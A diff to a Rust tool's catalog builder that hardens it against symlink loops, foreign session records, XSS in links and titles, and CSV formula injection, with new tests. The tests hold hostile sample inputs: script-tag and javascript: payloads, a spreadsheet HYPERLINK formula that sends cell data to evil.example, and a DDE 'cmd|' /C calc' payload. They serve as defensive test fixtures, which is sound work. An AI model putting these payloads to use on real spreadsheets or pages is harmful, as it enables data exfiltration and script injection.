@@ -14,6 +14,7 @@ use crate::exit::Exit;
 use crate::fsutil::write_atomic;
 use crate::progress::Progress;
 use crate::render::context;
+use crate::render::templates::csp::ScriptMark;
 use crate::session::naming::Named;
 use crate::session::SessionRecord;
 
@@ -53,7 +54,8 @@ pub struct ThemeShare {
 #[derive(Debug, Serialize, PartialEq)]
 pub struct Link {
     pub name: String,
-    pub href: String,
+    /// Percent-encoded: set into index.html as is.
+    pub href: context::Href,
 }
 
 #[derive(Debug, Serialize, PartialEq)]
@@ -65,9 +67,11 @@ pub struct Trend {
     pub by_month: Vec<(String, usize)>,
 }
 
-/// Session folders (holding session.json) under `dir`, in path order.
+/// Session folders (holding session.json) under `dir`, in path order. Links to folders are
+/// not followed: a loop would list one session many times, and a link out of `dir` would
+/// catalogue what is not there.
 fn sessions(dir: &Path, found: &mut Vec<PathBuf>) -> std::io::Result<()> {
-    let mut entries: Vec<PathBuf> = std::fs::read_dir(dir)?.filter_map(|e| e.ok().map(|e| e.path())).filter(|p| p.is_dir()).collect();
+    let mut entries: Vec<PathBuf> = std::fs::read_dir(dir)?.filter_map(Result::ok).filter(|e| e.file_type().is_ok_and(|t| t.is_dir())).map(|e| e.path()).collect();
     entries.sort();
     for p in entries {
         if p.join("session.json").is_file() {
@@ -78,13 +82,22 @@ fn sessions(dir: &Path, found: &mut Vec<PathBuf>) -> std::io::Result<()> {
     Ok(())
 }
 
-pub fn build(dir: &Path) -> Result<Catalog, Failure> {
+/// The catalog of the session folders under `dir`. A session.json that is not a session
+/// record this version reads (another tool's, a newer schema, unreadable) is left out with a
+/// `warn`ing rather than failing the catalog of all the others.
+pub fn build(dir: &Path, warn: &mut dyn FnMut(String)) -> Result<Catalog, Failure> {
     let mut folders = Vec::new();
     sessions(dir, &mut folders).map_err(|e| Failure::new(Exit::Input, format!("cannot read {}: {e}", dir.display())))?;
     let taxonomies = crate::themes::taxonomy::load(None).map_err(|e| Failure::new(Exit::Input, e.to_string()))?;
     let mut entries = Vec::new();
     for folder in folders {
-        let record = SessionRecord::load(&folder.join("session.json")).map_err(|e| Failure::new(Exit::Input, e.to_string()))?;
+        let record = match SessionRecord::load(&folder.join("session.json")) {
+            Ok(record) => record,
+            Err(e) => {
+                warn(format!("{e}; {} is left out of the catalog", folder.display()));
+                continue;
+            }
+        };
         // Names from speakers.toml and session.toml as the documents have them; a folder whose
         // files do not parse is catalogued without them.
         let named = Named::load(&folder, &record).unwrap_or_else(|_| Named::new(&record, None, &Default::default()));
@@ -102,7 +115,7 @@ pub fn build(dir: &Path) -> Result<Catalog, Failure> {
                 .iter()
                 .flat_map(|t| t.themes.iter().take(TOP_THEMES).map(move |th| ThemeShare { taxonomy: t.name.clone(), theme: th.short.clone(), share_percent: th.share_percent }))
                 .collect(),
-            documents: DOCUMENTS.iter().filter(|d| folder.join(d).is_file()).map(|d| Link { name: d.to_string(), href: format!("{path}/{d}") }).collect(),
+            documents: DOCUMENTS.iter().filter(|d| folder.join(d).is_file()).map(|d| Link { name: d.to_string(), href: document_href(dir, &folder, d) }).collect(),
             path,
         });
     }
@@ -122,8 +135,11 @@ pub fn build(dir: &Path) -> Result<Catalog, Failure> {
 }
 
 /// A CSV field, quoted when it must be.
+/// One CSV cell. A cell a spreadsheet would take for a formula (`=`, `+`, `-`, `@`, tab or CR
+/// first) gets a `'` before it, as OWASP advises: a title is data, never a formula.
 fn csv_field(s: &str) -> String {
-    if s.contains([',', '"', '\n', '\r']) { format!("\"{}\"", s.replace('"', "\"\"")) } else { s.to_string() }
+    let s = if s.starts_with(['=', '+', '-', '@', '\t', '\r']) { format!("'{s}") } else { s.to_string() };
+    if s.contains([',', '"', '\n', '\r']) { format!("\"{}\"", s.replace('"', "\"\"")) } else { s }
 }
 
 fn csv(c: &Catalog) -> String {
@@ -138,29 +154,45 @@ fn csv(c: &Catalog) -> String {
     out
 }
 
+/// A document's link from the catalog: its path under `dir`, percent-encoded per segment
+/// (a folder named `a b (1)`, `#1` or `javascript:x` still links to itself).
+fn document_href(dir: &Path, folder: &Path, document: &str) -> context::Href {
+    context::href(&folder.strip_prefix(dir).unwrap_or(folder).join(document))
+}
+
+/// index.html: every value HTML-escaped, and a Content-Security-Policy as on every page.
 fn html(c: &Catalog) -> Result<String, Failure> {
     let mut env = minijinja::Environment::new();
     env.set_auto_escape_callback(|_| minijinja::AutoEscape::Html);
     env.set_undefined_behavior(minijinja::UndefinedBehavior::Strict);
-    env.add_template("catalog.html", include_str!("../../templates/catalog.html")).map_err(|e| Failure::new(Exit::Failed, format!("catalog template: {e}")))?;
+    let scripts = ScriptMark::new();
+    env.add_template_owned("catalog.html", scripts.mark(include_str!("../../templates/catalog.html"))).map_err(|e| Failure::new(Exit::Failed, format!("catalog template: {e}")))?;
     let months: Vec<String> = c.trends.iter().flat_map(|t| t.by_month.iter().map(|(m, _)| m.clone())).collect::<std::collections::BTreeSet<_>>().into_iter().collect();
     env.get_template("catalog.html")
         .and_then(|t| t.render(minijinja::context! { catalog => c, months => months }))
+        .map(|page| scripts.seal(&page))
         .map_err(|e| Failure::new(Exit::Failed, format!("catalog template: {e}")))
 }
 
-/// Writes the three catalog files into `dir`.
-pub fn write_catalog(dir: &Path) -> Result<Catalog, Failure> {
-    let c = build(dir)?;
+/// Writes the three catalog files into `dir`, under its catalog lock: two processes
+/// cataloguing one folder take turns, and only the holder removes temporary files a killed
+/// one left.
+pub fn write_catalog(dir: &Path, progress: &Progress) -> Result<Catalog, Failure> {
     let write_fail = |e: std::io::Error| Failure::new(Exit::Output, format!("cannot write the catalog in {}: {e}", dir.display()));
+    let _lock = crate::fsutil::FolderLock::wait(dir, crate::fsutil::CATALOG_LOCK).map_err(write_fail)?;
+    crate::fsutil::remove_stale_temps(dir, &FILES);
+    let c = build(dir, &mut |w| progress.warn(&w))?;
     let json = serde_json::to_string_pretty(&c).expect("serialisable") + "\n";
     let page = html(&c)?;
     let _commit = crate::fsutil::commit();
-    write_atomic(&dir.join("catalog.json"), json.as_bytes()).map_err(write_fail)?;
-    write_atomic(&dir.join("catalog.csv"), csv(&c).as_bytes()).map_err(write_fail)?;
-    write_atomic(&dir.join("index.html"), page.as_bytes()).map_err(write_fail)?;
+    write_atomic(&dir.join(FILES[0]), json.as_bytes()).map_err(write_fail)?;
+    write_atomic(&dir.join(FILES[1]), csv(&c).as_bytes()).map_err(write_fail)?;
+    write_atomic(&dir.join(FILES[2]), page.as_bytes()).map_err(write_fail)?;
     Ok(c)
 }
+
+/// The catalog's files, in the folder catalogued.
+const FILES: [&str; 3] = ["catalog.json", "catalog.csv", "index.html"];
 
 pub fn catalog(dir: &Path, progress: &Progress) -> Vec<Failure> {
     if !dir.is_dir() {
@@ -168,8 +200,7 @@ pub fn catalog(dir: &Path, progress: &Progress) -> Vec<Failure> {
         progress.error(None, &f.message);
         return vec![f];
     }
-    crate::fsutil::remove_stale_temps(dir);
-    match write_catalog(dir) {
+    match write_catalog(dir, progress) {
         Ok(c) => {
             progress.done(&dir.display().to_string(), &dir.join("index.html").display().to_string(), &format!("{} sessions", c.sessions.len()));
             Vec::new()
@@ -185,10 +216,56 @@ pub fn catalog(dir: &Path, progress: &Progress) -> Vec<Failure> {
 mod tests {
     use super::*;
 
+    /// Another tool's session.json, a newer schema's and a folder link looping back are
+    /// left out (with a warning for the first two), and the rest is catalogued.
+    #[test]
+    fn foreign_records_and_folder_links_are_left_out() {
+        let dir = tempfile::tempdir().unwrap();
+        let out = dir.path();
+        std::fs::create_dir_all(out.join("ours")).unwrap();
+        std::fs::write(out.join("ours/session.json"), crate::session::record::tests::sample().to_json()).unwrap();
+        std::fs::create_dir_all(out.join("other-tool")).unwrap();
+        std::fs::write(out.join("other-tool/session.json"), r#"{"user":"x"}"#).unwrap();
+        std::fs::create_dir_all(out.join("newer")).unwrap();
+        let newer = crate::session::record::tests::sample().to_json().replace("\"schema_version\": 2", "\"schema_version\": 999");
+        std::fs::write(out.join("newer/session.json"), newer).unwrap();
+        std::os::unix::fs::symlink(".", out.join("loop")).unwrap();
+        let mut warnings = Vec::new();
+        let c = build(out, &mut |w| warnings.push(w)).unwrap();
+        assert_eq!(c.sessions.iter().map(|e| e.path.as_str()).collect::<Vec<_>>(), ["ours"]);
+        assert_eq!(warnings.len(), 2, "{warnings:?}");
+        assert!(warnings[0].contains("newer") && warnings[0].contains("999") && warnings[1].contains("other-tool"), "{warnings:?}");
+    }
+
+    /// Links to a session's documents work whatever its folder is called, and the page allows
+    /// no script and no network.
+    #[test]
+    fn index_links_are_encoded_and_the_page_has_a_policy() {
+        let out = Path::new("/o");
+        assert_eq!(document_href(out, &out.join("javascript:alert(1)"), "review.html").as_str(), "./javascript%3Aalert%281%29/review.html");
+        assert_eq!(document_href(out, &out.join("2026/a b (1)#2?50%"), "minutes.md").as_str(), "./2026/a%20b%20%281%29%232%3F50%25/minutes.md");
+        let link = Link { name: "review.html".into(), href: document_href(out, &out.join("x\"><script>alert(1)</script>"), "review.html") };
+        let entry = Entry { path: "x".into(), title: "<script>alert(2)</script>".into(), date: None, duration_s: 1.0, duration: "1 s".into(), speakers: vec![], languages: vec![], themes: vec![], documents: vec![link] };
+        let page = html(&Catalog { sessions: vec![entry], trends: vec![] }).unwrap();
+        assert!(!page.contains("<script"), "{page}");
+        assert!(page.contains(r#"<a href="./x%22%3E%3Cscript%3Ealert%281%29%3C/script%3E/review.html">"#), "{page}");
+        assert!(page.contains("<meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'none';") && page.contains("script-src 'none'\">"), "{page}");
+    }
+
     #[test]
     fn csv_fields_are_quoted_when_they_must_be() {
         assert_eq!(csv_field("plain"), "plain");
         assert_eq!(csv_field("a, b"), "\"a, b\"");
         assert_eq!(csv_field("say \"hi\""), "\"say \"\"hi\"\"\"");
+    }
+
+    #[test]
+    fn csv_cells_are_never_formulas() {
+        assert_eq!(csv_field("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"), "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\"");
+        for lead in ["+", "-", "@", "\t", "\r"] {
+            assert!(csv_field(&format!("{lead}cmd|' /C calc'!A0")).trim_start_matches('"').starts_with('\''), "{lead:?}");
+        }
+        assert_eq!(csv_field("a=b"), "a=b", "only the first character matters");
+        assert_eq!(csv_field("42.5"), "42.5");
     }
 }
